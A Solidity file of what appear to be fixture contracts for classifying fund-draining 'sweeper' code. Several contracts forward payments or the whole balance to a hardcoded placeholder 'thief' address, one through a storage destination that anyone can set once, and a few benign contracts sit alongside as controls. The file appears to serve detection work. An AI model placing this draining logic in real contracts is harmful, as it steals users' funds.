// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface IERC20 {
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Hands on the very payment, to an address in its code.
contract HandsOn {
    address payable private immutable thief = payable(address(0x7777777777777777777777777777777777777777));

    receive() external payable {
        thief.transfer(msg.value);
    }
}

/// As the family that was found most often: whom it pays is in storage, and anybody may have set it once.
contract HandsOnFromStorage {
    address public destination;

    function initialize(address to) external {
        require(destination == address(0));
        destination = to;
    }

    receive() external payable {
        (bool ok,) = destination.call{value: address(this).balance}("");
        require(ok);
    }
}

/// Everything that the account has, by a fallback that takes any calldata.
contract HandsOnAll {
    fallback() external payable {
        payable(0x7777777777777777777777777777777777777777).call{value: address(this).balance}("");
    }
}

contract Ends {
    receive() external payable {
        selfdestruct(payable(0x7777777777777777777777777777777777777777));
    }
}

/// Keeps what it is paid; only the account itself can pay.
contract Account {
    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    function execute(Call[] calldata calls) external payable {
        require(msg.sender == address(this));
        for (uint256 i; i < calls.length; i++) {
            (bool ok,) = calls[i].to.call{value: calls[i].value}(calls[i].data);
            require(ok);
        }
    }

    receive() external payable {}
}

/// Gives back what it is paid.
contract GivesBack {
    receive() external payable {
        payable(msg.sender).transfer(msg.value);
    }
}

/// Tells of payments without passing them on, and hands other calls to a handler.
contract Tells {
    event Received(address from, uint256 value);

    receive() external payable {
        emit Received(msg.sender, msg.value);
    }

    fallback() external {
        address handler = 0x7777777777777777777777777777777777777777;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := call(gas(), handler, 0, 0, calldatasize(), 0, 0)
            if iszero(ok) { revert(0, 0) }
        }
    }
}
